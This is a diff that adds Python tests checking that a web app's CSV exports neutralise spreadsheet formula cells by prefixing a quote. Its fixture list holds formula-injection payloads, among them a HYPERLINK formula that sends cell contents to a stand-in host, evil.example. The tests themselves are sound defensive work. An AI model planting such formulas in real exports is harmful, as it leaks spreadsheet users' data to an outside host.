@@ -111,3 +111,50 @@ def test_failed_records_csv_of_old_run_is_gone(viewer_client, imp):
     assert b"Detailed records are available only for runs completed within the last 30 days" in (
         response.content
     )
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1",
+    "-2",
+    "@x",
+    "\tcmd",
+    "\rcmd",
+]
+
+
+def test_failed_records_csv_neutralises_formula_cells(viewer_client, event_imp):
+    """On SQLite (Python path) and PostgreSQL (COPY path) alike: every text cell a spreadsheet
+    would run as a formula starts with a quote; other cells are untouched."""
+    import csv
+    import io
+
+    run = factories.make_run(event_imp, total=len(FORMULAS) + 1, failed=len(FORMULAS) + 1)
+    specs = [(value, [error(value, "invalid_email")]) for value in FORMULAS]
+    specs.append(("plain\u00a0user", [error("email", "invalid_email")]))
+    make_records(run, specs, event="=1+1")
+    body = body_of(
+        viewer_client.get(reverse("stats-run-failed-export", args=[event_imp.code, run.code]))
+    )
+    rows = list(csv.reader(io.StringIO(body, newline="")))[1:]
+    assert [row[1] for row in rows] == ["'" + v for v in FORMULAS] + ["plain\u00a0user"]
+    assert [row[3] for row in rows] == ["'" + v for v in FORMULAS] + ["email"]
+    assert {row[2] for row in rows} == {"'=1+1"}
+    assert [row[0] for row in rows] == [str(n) for n in range(1, len(FORMULAS) + 2)]
+
+
+def test_stats_csv_neutralises_formula_cells(viewer_client, imp):
+    import csv
+    import io
+
+    for i, value in enumerate(FORMULAS):
+        factories.make_run(
+            imp,
+            state=ImportRun.State.FAILED,
+            total=0,
+            created_at=timezone.now() - timedelta(minutes=i + 1),
+            error=value,
+        )
+    body = body_of(viewer_client.get(reverse("stats-export", args=[imp.code])))
+    rows = list(csv.reader(io.StringIO(body, newline="")))[1:]
+    assert [row[-1] for row in rows] == ["'" + v for v in FORMULAS]
